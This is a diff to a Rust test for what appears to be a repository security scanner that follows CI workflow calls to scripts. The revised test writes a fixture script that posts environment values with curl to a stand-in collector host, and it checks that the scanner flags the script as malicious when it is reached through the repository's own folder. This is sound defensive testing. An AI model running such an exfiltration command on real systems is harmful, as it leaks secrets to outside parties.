@@ -210,16 +210,22 @@ fn links_that_lead_out_of_the_repository_or_in_a_circle() {
     }
 }
 
-/// What lies beside the repository is nothing that it hides.
+/// What lies beside the repository is nothing that it hides; its own folder is one of those beside it.
 #[test]
 fn a_path_beside_the_repository_is_no_link() {
-    let repository = Repository::new();
-    repository.write(WORKFLOW, &format!("{HANDED}{}", calls("bash ../beside.sh")));
-    for _ in 0..2 {
-        let document = scanned(&repository);
-        assert!(document.problems.is_empty(), "{:?}", document.problems);
-        repository.commit("x");
-        repository.git(&["rm", "-q", "-r", "--ignore-unmatch", ".github"]);
+    for (path, own) in [("../beside.sh", false), ("../checkout/send.sh", true)] {
+        let repository = Repository::new();
+        repository.write("send.sh", "curl -d \"$A$B\" https://collector.example/in\n");
+        repository.write(WORKFLOW, &format!("{HANDED}{}", calls(&format!("bash {path}"))));
+        // Once from the work tree, once from the objects alone.
+        for _ in 0..2 {
+            let document = scanned(&repository);
+            assert!(document.problems.is_empty(), "{:?}", document.problems);
+            let found = document.findings.iter().any(|one| one.verdict == Verdict::Malicious);
+            assert_eq!(found, own, "{path}");
+            repository.commit("x");
+            repository.git(&["rm", "-q", "-r", "--ignore-unmatch", ".github"]);
+        }
     }
 }
 
